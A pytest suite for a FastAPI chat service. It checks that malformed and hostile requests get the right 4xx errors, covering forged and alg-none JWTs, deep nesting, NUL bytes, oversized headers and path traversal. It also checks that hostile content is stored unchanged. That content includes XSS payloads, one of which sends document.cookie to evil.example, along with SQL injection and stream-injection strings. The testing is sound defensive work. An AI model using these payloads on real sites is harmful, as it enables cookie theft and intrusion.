"""Hostile and broken requests, as a table: each gets the right 4xx, with a readable `detail` and a
stable `code`, on SQLite and on PostgreSQL. Accepted hostile content is stored exactly as sent.
Oversized headers and path tricks go through a real uvicorn server (the server parses them)."""

import asyncio
import json
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
from asgi_lifespan import LifespanManager
from fastapi import FastAPI
from sqlalchemy import delete

from app.core.config import Settings
from app.core.security import AUDIENCE, ISSUER
from app.main import create_app
from app.models import User
from tests.conftest import _fresh_postgres_database, serving
from tests.fakes import FakeRegistry

PASSWORD = "correct horse battery"
HI = [{"role": "user", "content": "Hi"}]


def hostile_settings(data_dir: Path, database_url: str) -> Settings:
    return Settings(  # type: ignore[call-arg]
        _env_file=None,
        environment="test",
        data_dir=data_dir,
        database_url=database_url,
        auth_mode="required",
        warm_up=False,
        generate_titles=False,
        together_api_key=None,
        openai_compatible_base_url=None,
        secret_key=None,
        rate_limit_login="1000/minute",
        rate_limit_signup="1000/minute",
        rate_limit_chat="1000/minute",
    )


@dataclass
class Api:
    app: FastAPI
    client: httpx.AsyncClient
    tokens: dict[str, str]  # by name: "user" (valid), "deleted user", forged ones…


def token(secret: str, **changes: Any) -> str:
    now = datetime.now(UTC)
    claims: dict[str, Any] = {
        "sub": "someone",
        "iat": now,
        "nbf": now,
        "exp": now + timedelta(minutes=5),
        "iss": ISSUER,
        "aud": AUDIENCE,
        "type": "access",
    }
    algorithm = changes.pop("algorithm", "HS256")
    claims.update(changes)
    return jwt.encode(claims, secret if algorithm != "none" else None, algorithm=algorithm)  # type: ignore[arg-type]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
async def api(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Api]:
    """One app per database for the whole table (the rows change nothing that others read)."""
    tmp = tmp_path_factory.mktemp("hostile")
    if request.param == "sqlite":
        url = f"sqlite:///{tmp / 'openchat.db'}"
    else:
        url = _fresh_postgres_database(request.getfixturevalue("postgres_server"))
    settings = hostile_settings(tmp / "data", url)
    app = create_app(settings, registry=FakeRegistry(settings))
    async with LifespanManager(app) as manager:
        transport = httpx.ASGITransport(app=manager.app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            tokens = {}
            for name in ("user", "deleted user"):
                email = f"{name.replace(' ', '-')}-{uuid.uuid4().hex[:6]}@example.com"
                signed_up = await client.post("/api/v1/auth/signup", json={"email": email, "password": PASSWORD})
                assert signed_up.status_code == 201, signed_up.text
                tokens[name] = signed_up.json()["access_token"]
            with app.state.session_factory() as session:
                session.execute(delete(User).where(User.email.startswith("deleted-user-")))
                session.commit()
            secret = app.state.secret_key
            user_id = jwt.decode(tokens["user"], options={"verify_signature": False})["sub"]
            tokens |= {
                "forged": token("another-secret-key-that-is-long-enough-to-sign", sub=user_id),
                "expired": token(secret, sub=user_id, exp=datetime.now(UTC) - timedelta(minutes=1)),
                "alg none": token(secret, sub=user_id, algorithm="none"),
                "HS512": token(secret, sub=user_id, algorithm="HS512"),
                "wrong audience": token(secret, sub=user_id, aud="someone-else"),
                "not an access token": token(secret, sub=user_id, type="refresh"),
                "no subject": token(secret, sub=None),
                "tampered": tokens["user"][:-4] + ("AAAA" if not tokens["user"].endswith("AAAA") else "BBBB"),
            }
            await client.post(
                "/api/v1/chat", json={"id": "mine", "messages": HI}, headers=auth(tokens["user"])
            )  # a conversation the rows may name
            yield Api(app, client, tokens)


def auth(value: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {value}"}


@dataclass(frozen=True)
class Row:
    name: str
    method: str
    path: str
    status: int
    code: str
    json: Any = None
    content: bytes | None = None  # sent as is (wins over `json`)
    headers: dict[str, str] = field(default_factory=dict)
    token: str | None = "user"  # which token to send (see `api`), None: no Authorization header
    cookies: dict[str, str] = field(default_factory=dict)


def chat(data: Any = None, **body: Any) -> dict[str, Any]:
    return {"id": "hostile", "messages": HI, **body} | ({"data": data} if data is not None else {})


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


JSON = {"Content-Type": "application/json"}
LONG_ID = "a" * 65
ROWS = [
    # -- not JSON, the wrong content type --
    Row("plain text body", "POST", "/api/v1/chat", 400, "invalid_json", content=b"hello", headers=JSON),
    Row("truncated JSON", "POST", "/api/v1/chat", 400, "invalid_json", content=b'{"id": "x", "messa', headers=JSON),
    Row("empty body", "POST", "/api/v1/chat", 400, "missing_field", content=b"", headers=JSON),
    Row(
        "text/plain content type",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_body",
        content=json.dumps(chat()).encode(),
        headers={"Content-Type": "text/plain"},
    ),
    Row(
        "form-encoded body",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_body",
        content=b"id=x&messages=hi",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    ),
    Row("JSON array body", "POST", "/api/v1/chat", 400, "invalid_body", json=[chat()]),
    Row("JSON string body", "POST", "/api/v1/chat", 400, "invalid_body", json="hi"),
    Row("JSON null body", "POST", "/api/v1/chat", 400, "invalid_body", content=b"null", headers=JSON),
    Row(
        "NaN option",
        "POST",
        "/api/v1/chat",
        400,
        "option_out_of_range",
        content=b'{"id": "x", "messages": [{"role": "user", "content": "Hi"}], "data": {"temperature": NaN}}',
        headers=JSON,
    ),
    # -- deep nesting, invalid UTF-8, NUL --
    Row(
        "100,000 nested arrays",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_json",
        content=nested(100_000).encode(),
        headers=JSON,
    ),
    Row(
        "10,000 nested objects in data",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_json",
        content=b'{"id": "x", "messages": [], "data": ' + b'{"a": ' * 10_000 + b"1" + b"}" * 10_001,
        headers=JSON,
    ),
    Row(
        "invalid UTF-8 in content",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_json",
        content=b'{"id": "x", "messages": [{"role": "user", "content": "caf\xe9 \xff\xfe"}]}',
        headers=JSON,
    ),
    Row(
        "lone surrogate in content",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_text",
        content=b'{"id": "x", "messages": [{"role": "user", "content": "a\\ud800b"}]}',
        headers=JSON,
    ),
    Row(
        "NUL in content",
        "POST",
        "/api/v1/chat",
        400,
        "nul_character",
        json=chat(messages=[{"role": "user", "content": "a\x00b"}]),
    ),
    Row("NUL in the system prompt", "POST", "/api/v1/chat", 400, "nul_character", json=chat({"prompt": "\x00"})),
    Row("NUL in a title", "PATCH", "/api/v1/conversations/mine", 400, "nul_character", json={"title": "a\x00"}),
    Row("NUL in a conversation id (URL)", "GET", "/api/v1/conversations/a%00b", 400, "nul_character"),
    Row("NUL in a search (URL)", "GET", "/api/v1/conversations?q=%00", 400, "nul_character"),
    Row(
        "NUL in an email",
        "POST",
        "/api/v1/auth/login",
        400,
        "nul_character",
        json={"email": "a\x00@b.co", "password": PASSWORD},
        token=None,
    ),
    # -- size --
    Row(
        "1 MB message",
        "POST",
        "/api/v1/chat",
        413,
        "body_too_large",
        json=chat(messages=[{"role": "user", "content": "x" * 1_000_000}]),
    ),
    Row(
        "10,000 messages",
        "POST",
        "/api/v1/chat",
        400,
        "too_many_messages",
        json=chat(messages=[{"role": "user", "content": "Hi"}] * 10_000),
    ),
    Row(
        "a 200,000-character message",
        "POST",
        "/api/v1/chat",
        400,
        "message_too_long",
        json=chat(messages=[{"role": "user", "content": "word " * 40_000}]),
    ),
    Row(
        "30,000-character system prompt",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_request",
        json=chat({"prompt": "p" * 30_000}),
    ),
    # -- wrong types --
    Row("messages a string", "POST", "/api/v1/chat", 400, "invalid_type", json=chat(messages="Hi")),
    Row("messages empty", "POST", "/api/v1/chat", 400, "empty_messages", json=chat(messages=[])),
    Row("messages missing", "POST", "/api/v1/chat", 400, "missing_field", json={"id": "x"}),
    Row("id a number", "POST", "/api/v1/chat", 400, "invalid_type", json=chat(id=42)),
    Row(
        "unknown role",
        "POST",
        "/api/v1/chat",
        400,
        "unknown_role",
        json=chat(messages=[{"role": "root", "content": "Hi"}]),
    ),
    Row(
        "content an object",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_content",
        json=chat(messages=[{"role": "user", "content": {"$gt": ""}}]),
    ),
    Row(
        "content a list",
        "POST",
        "/api/v1/chat",
        400,
        "invalid_content",
        json=chat(messages=[{"role": "user", "content": ["Hi"]}]),
    ),
    Row(
        "last message from the model",
        "POST",
        "/api/v1/chat",
        400,
        "last_message_not_user",
        json=chat(messages=[{"role": "ai", "content": "Hi"}]),
    ),
    Row("data a list", "POST", "/api/v1/chat", 400, "invalid_type", json=chat([1, 2])),
    Row("temperature a string", "POST", "/api/v1/chat", 400, "invalid_type", json=chat({"temperature": "0.7"})),
    Row("temperature a boolean", "POST", "/api/v1/chat", 400, "invalid_type", json=chat({"temperature": True})),
    Row("max_tokens a fraction", "POST", "/api/v1/chat", 400, "invalid_type", json=chat({"max_tokens": 1.5})),
    # -- out of range --
    Row("temperature 5", "POST", "/api/v1/chat", 400, "option_out_of_range", json=chat({"temperature": 5})),
    Row("top_p -1", "POST", "/api/v1/chat", 400, "option_out_of_range", json=chat({"top_p": -1})),
    Row("max_tokens a billion", "POST", "/api/v1/chat", 400, "option_out_of_range", json=chat({"max_tokens": 10**9})),
    Row(
        "max_tokens past the model's window",
        "POST",
        "/api/v1/chat",
        400,
        "option_out_of_range",
        json=chat({"max_tokens": 5000}),
    ),
    Row("model a path", "POST", "/api/v1/chat", 400, "unknown_model", json=chat({"model": "../../etc/passwd"})),
    Row("list limit 0", "GET", "/api/v1/conversations?limit=0", 400, "invalid_request"),
    Row("list limit a word", "GET", "/api/v1/conversations?limit=all", 400, "invalid_type"),
    Row("list cursor garbage", "GET", "/api/v1/conversations?cursor=..%2F..%2Fetc", 400, "invalid_cursor"),
    Row("search of 10,000 characters", "GET", "/api/v1/conversations?q=" + "a" * 10_000, 400, "invalid_request"),
    Row("blank title", "PATCH", "/api/v1/conversations/mine", 400, "invalid_request", json={"title": "   "}),
    Row("nothing to change", "PATCH", "/api/v1/conversations/mine", 400, "invalid_request", json={}),
    Row(
        "email not an email",
        "POST",
        "/api/v1/auth/signup",
        400,
        "invalid_email",
        json={"email": "<script>@", "password": PASSWORD},
        token=None,
    ),
    Row(
        "password an object",
        "POST",
        "/api/v1/auth/login",
        400,
        "invalid_type",
        json={"email": "a@b.co", "password": {"$ne": ""}},
        token=None,
    ),
    # -- ids with path tricks --
    Row("id ../", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id="../other")),
    Row("id %2e%2e", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id="%2e%2e")),
    Row("id with a slash", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id="a/b")),
    Row("id of 65 characters", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id=LONG_ID)),
    Row("id in unicode", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id="ïd")),
    Row("id with a space", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id="a b")),
    Row("id empty", "POST", "/api/v1/chat", 400, "invalid_request", json=chat(id="")),
    Row("GET ../ in the path", "GET", "/api/v1/conversations/..%2F..%2Fmetrics", 404, "not_found"),
    Row("GET an id of 10,000 characters", "GET", "/api/v1/conversations/" + "a" * 10_000, 404, "not_found"),
    Row("DELETE someone else's or no conversation", "DELETE", "/api/v1/conversations/%E2%80%AEmine", 404, "not_found"),
    # -- tokens --
    Row("no token", "POST", "/api/v1/chat", 401, "unauthorized", json=chat(), token=None),
    Row("forged token", "POST", "/api/v1/chat", 401, "unauthorized", json=chat(), token="forged"),
    Row("expired token", "GET", "/api/v1/auth/me", 401, "unauthorized", token="expired"),
    Row("alg:none token", "GET", "/api/v1/auth/me", 401, "unauthorized", token="alg none"),
    Row("HS512 token", "GET", "/api/v1/auth/me", 401, "unauthorized", token="HS512"),
    Row("token for another audience", "GET", "/api/v1/conversations", 401, "unauthorized", token="wrong audience"),
    Row("refresh-type token", "GET", "/api/v1/conversations", 401, "unauthorized", token="not an access token"),
    Row("token without subject", "GET", "/api/v1/auth/me", 401, "unauthorized", token="no subject"),
    Row("tampered signature", "GET", "/api/v1/auth/me", 401, "unauthorized", token="tampered"),
    Row("token for a deleted user", "GET", "/api/v1/auth/me", 401, "unauthorized", token="deleted user"),
    Row("deleted user chats", "POST", "/api/v1/chat", 401, "unauthorized", json=chat(id="gone"), token="deleted user"),
    Row(
        "token is garbage",
        "GET",
        "/api/v1/auth/me",
        401,
        "unauthorized",
        headers={"Authorization": "Bearer ../../"},
        token=None,
    ),
    Row(
        "Basic credentials",
        "GET",
        "/api/v1/auth/me",
        401,
        "unauthorized",
        headers={"Authorization": "Basic YTpi"},
        token=None,
    ),
    Row(
        "refresh cookie garbage",
        "POST",
        "/api/v1/auth/refresh",
        401,
        "unauthorized",
        token=None,
        cookies={"openchat_refresh": "garbage"},
    ),
    Row(
        "refresh cookie of 4 KB",
        "POST",
        "/api/v1/auth/refresh",
        401,
        "unauthorized",
        token=None,
        cookies={"openchat_refresh": "x" * 4000},
    ),
    Row("no refresh cookie", "POST", "/api/v1/auth/refresh", 401, "unauthorized", token=None),
]


@pytest.mark.parametrize("row", ROWS, ids=[row.name for row in ROWS])
async def test_hostile_request_gets_the_right_4xx_with_a_readable_detail(api: Api, row: Row) -> None:
    headers = dict(row.headers)
    if row.token is not None:
        headers |= auth(api.tokens[row.token])
    request = api.client.build_request(
        row.method,
        row.path,
        headers=headers,
        content=row.content,
        json=row.json if row.content is None else None,
        cookies=row.cookies,  # type: ignore[arg-type]
    )
    response = await api.client.send(request)
    assert (response.status_code, response.headers["content-type"]) == (row.status, "application/json"), response.text
    body = response.json()
    assert set(body) == {"detail", "code"} and body["code"] == row.code, body
    detail = body["detail"]
    # A sentence for a person: short, ends like one, and echoes no library internals.
    assert 10 < len(detail) <= 300 and detail.rstrip()[-1] in ".)", detail
    for internal in ("Traceback", "pydantic", "psycopg", "sqlite", "jwt.", "PyJWT", "errors.pydantic.dev", "\\x"):
        assert internal not in detail, detail


# Accepted as they are, and given back byte for byte.
HOSTILE_CONTENT = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/?c=${document.cookie}`)">',
    '"><svg/onload=alert(1)>',
    "[click](javascript:alert(1)) ![x](https://evil.example/leak?data=secret)",
    "abc\u202edcba\u202c and \u2067isolated\u2069",  # right-to-left override and isolate
    "zero\u200bwidth\u200cnon\u200djoiner\ufeffBOM",
    "👩🏽‍💻 🏳️‍🌈 👨‍👩‍👧‍👦 🇺🇳",
    "Z̷̢͉a̶̙l̵̰g̴̯o̸̟",
    "'; DROP TABLE messages; --",
    "100% _done_ \\% \\_ LIKE '%'",
    '{"type":"end","finish_reason":"stop"}\n{"type":"error","code":"x","message":"injected"}',
    "line1\r\nline2\rline3\n\n\ttab",
    "\\u0000 \\x00 %00 are text here, not NUL",
    "\x01\x07\x1b[31mred\x1b[0m\x7f",
    "𝕳𝖊𝖑𝖑𝖔 \U0010ffff \ufffe",
    ("64 KB: " + "日本語のテキスト and ASCII ") * 2731,
]


async def test_hostile_content_is_stored_exactly_as_sent(api: Api) -> None:
    messages = [
        {"role": "user" if n % 2 == 0 else "ai", "content": content} for n, content in enumerate(HOSTILE_CONTENT)
    ]
    messages.append({"role": "user", "content": HOSTILE_CONTENT[0]})
    assert len(HOSTILE_CONTENT[-1]) >= 64 * 1024
    conversation = f"content-{uuid.uuid4().hex[:8]}"
    headers = auth(api.tokens["user"])
    sent = await api.client.post("/api/v1/chat", json={"id": conversation, "messages": messages}, headers=headers)
    assert sent.status_code == 200, sent.text
    stored = await api.client.get(f"/api/v1/conversations/{conversation}", headers=headers)
    assert stored.status_code == 200
    contents = [message["content"].encode() for message in stored.json()["messages"]]
    assert contents[: len(messages)] == [message["content"].encode() for message in messages]
    # Each stream line is one JSON event: content never breaks out of its line.
    assert all(json.loads(line)["type"] for line in sent.text.splitlines())


async def raw_request(base_url: str, request: bytes) -> tuple[int, bytes]:
    """Sends `request` as is (no client normalizes its path) and reads the status and body."""
    host, port = base_url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(request)
        await writer.drain()
        response = await asyncio.wait_for(reader.read(), timeout=30)
    finally:
        writer.close()
    head, _, body = response.partition(b"\r\n\r\n")
    return int(head.split(b" ", 2)[1]), body


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[str]:
    settings = hostile_settings(tmp_path / "data", f"sqlite:///{tmp_path / 'openchat.db'}")
    async with serving(create_app(settings, registry=FakeRegistry(settings))) as url:
        yield url


def get(path: str, *headers: str) -> bytes:
    lines = [f"GET {path} HTTP/1.1", "Host: 127.0.0.1", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode("latin-1")


@pytest.mark.parametrize(
    "headers",
    [
        ["X-Padding: " + "a" * 100_000],
        ["Cookie: openchat_refresh=" + "b" * 100_000],
        ["Authorization: Bearer " + "c" * 100_000],
        [f"X-Many-{n}: {n}" for n in range(2_000)] + ["X-Padding: " + "d" * 70_000],
    ],
    ids=["100 KB header", "100 KB cookie", "100 KB token", "2,000 headers"],
)
async def test_oversized_headers_are_refused_with_431_and_the_server_keeps_serving(
    served: str, headers: list[str]
) -> None:
    status, body = await raw_request(served, get("/api/v1/auth/me", *headers))
    assert status == 431, body[:200]
    refused = json.loads(body)
    assert refused["code"] == "headers_too_large" and "headers are larger than 32768 bytes" in refused["detail"]
    healthy, body = await raw_request(served, get("/healthz"))
    assert (healthy, json.loads(body)) == (200, {"status": "ok"})


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/../metrics",
        "/api/v1/%2e%2e/metrics",
        "/api/v1/%2E%2E/%2E%2E/metrics",
        "/api/v1/%252e%252e/metrics",
        "/api/v1/..%2fmetrics",
        "/api/v1/.%2e/metrics",
        "/api/v1/conversations/..%2f..%2f..%2fmetrics",
        "/api/v1/./../../metrics",
        "/api/v1/%2fmetrics",
    ],
)
async def test_path_tricks_under_the_api_never_reach_metrics(served: str, path: str) -> None:
    status, body = await raw_request(served, get(path))
    assert status in (400, 404), (status, body[:200])
    assert b"python_gc" not in body and b"# HELP" not in body
    assert json.loads(body)["code"] in ("not_found", "unauthorized")
